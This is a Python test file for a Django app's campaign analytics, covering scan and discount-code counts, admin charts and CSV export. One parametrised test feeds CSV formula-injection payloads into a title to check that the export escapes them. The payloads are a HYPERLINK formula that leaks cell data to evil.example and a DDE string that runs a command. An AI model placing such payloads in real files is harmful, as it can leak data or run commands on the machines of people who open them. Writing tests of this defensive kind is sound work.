"""Campaign analytics in the admin: scans, codes, conversion, journeys; SVG charts and CSV."""

import csv
import io

import pytest

from engagement.models import ScanEvent
from engagement.selectors import campaign_analytics
from engagement.services import discount_code_redeem, scan_record, scan_target
from tests.factories import make_user

PHONE = "Mozilla/5.0 (iPhone) Mobile"


def _journeys(brochure):
    target = scan_target(code=brochure["link"].code)
    scans = [scan_record(target=target, user_agent=PHONE) for _ in range(3)]
    scan_record(target=target, user_agent="Googlebot")
    from engagement.services import discount_code_issue

    codes = [
        discount_code_issue(offer=brochure["offer"], language="fi", scan_uid=s.uid) for s in scans
    ]
    discount_code_redeem(code=codes[0].code, channel="web", order_reference="W1")
    discount_code_redeem(code=codes[1].code, channel="store", order_reference="S1")
    return scans, codes


def test_analytics_count_scans_codes_and_where_journeys_completed(brochure):
    _journeys(brochure)
    analytics = campaign_analytics(campaign=brochure["campaign"])
    assert analytics.scans == 3 and analytics.bot_scans == 1
    assert analytics.codes_issued == 3 and analytics.codes_redeemed == 2
    assert round(analytics.conversion_rate, 3) == 0.667
    assert [(b.label, b.value) for b in analytics.per_language] == [("fi", 3)]
    assert [(b.label, b.value) for b in analytics.per_piece] == [("Spring brochure FI", 3)]
    assert analytics.journeys == (("Spring brochure FI", 3, 1, 1),)


def test_admin_shows_svg_charts_and_exports_csv(client, brochure, django_assert_max_num_queries):
    _journeys(brochure)
    client.force_login(make_user("boss", superuser=True))
    listing = client.get("/admin/engagement/campaignreport/")
    assert listing.status_code == 200
    url = f"/admin/engagement/campaignreport/{brochure['campaign'].pk}/change/"
    with django_assert_max_num_queries(25):
        page = client.get(url)
    body = page.content.decode()
    assert page.status_code == 200
    assert body.count("<svg") >= 5 and 'role="img"' in body
    assert "Spring brochure FI" in body
    assert "66.7 %" in body
    export = client.get(f"/admin/engagement/campaignreport/{brochure['campaign'].pk}/csv/")
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    assert ["summary", "codes_redeemed", "2"] in rows
    assert ["journey_completed_in_store", "Spring brochure FI", "1"] in rows
    assert ScanEvent.objects.count() == 4


def test_analytics_need_permission(client, brochure):
    client.force_login(make_user("viewer"))
    url = f"/admin/engagement/campaignreport/{brochure['campaign'].pk}/csv/"
    assert client.get(url).status_code == 403


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "=1+2", "-2+3+cmd|' /C calc'!A0"],
)
def test_analytics_csv_never_hands_a_formula_to_a_spreadsheet(client, brochure, title):
    """A piece title that a spreadsheet would run as a formula is exported with an apostrophe
    in front (OWASP), while numbers stay numbers."""
    publication = brochure["publication"]
    publication.title = title
    publication.save(update_fields=["title"])
    _journeys(brochure)
    client.force_login(make_user("boss", superuser=True))
    export = client.get(f"/admin/engagement/campaignreport/{brochure['campaign'].pk}/csv/")
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    keys = {row[1] for row in rows if row[0] == "scans_per_piece"}
    assert keys == {"'" + title}
    assert ["summary", "codes_redeemed", "2"] in rows
